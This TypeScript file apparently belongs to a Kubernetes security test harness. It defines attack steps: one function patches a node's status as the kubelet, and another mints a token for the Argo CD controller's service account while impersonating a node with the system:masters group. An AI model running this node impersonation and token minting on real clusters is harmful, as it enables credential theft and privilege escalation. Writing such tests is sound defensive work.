/** Asks for a token of the GitOps controller in a node's name, as whoever may impersonate nodes can. */
import type { KubectlResult } from '../cluster/kubectl.ts';
import { ARGOCD } from '../cluster/service-account-user.ts';
import { NODE_NAME } from '../cluster/users.ts';
import type { AttackGround } from './attack.ts';

/** The kubelet says how its node is, as it does all the time: its credential is seen. */
export async function showNode({ cluster }: AttackGround): Promise<void> {
  const path = `/api/v1/nodes/${NODE_NAME}/status`;
  const annotations = { 'holdfast.test/seen': new Date().toISOString() };
  const { code } = await cluster.request('kubelet', path, {
    method: 'PATCH',
    body: { metadata: { annotations } },
  });
  if (code !== 200) throw new Error(`The node cannot write its status: ${code}`);
}

/** A token bound to the controller's running pod, by the pod's own uid. */
export async function mintAsNode(
  { cluster, kubectl }: AttackGround,
  node: string,
): Promise<KubectlResult> {
  const { namespace, serviceAccount, pod } = ARGOCD;
  const { body } = await cluster.request('root', `/api/v1/namespaces/${namespace}/pods/${pod}`);
  return await kubectl([
    'create',
    'token',
    serviceAccount,
    `--namespace=${namespace}`,
    '--bound-object-kind=Pod',
    `--bound-object-name=${pod}`,
    `--bound-object-uid=${body.metadata?.uid ?? ''}`,
    `--as=system:node:${node}`,
    '--as-group=system:nodes',
    '--as-group=system:masters',
  ]);
}
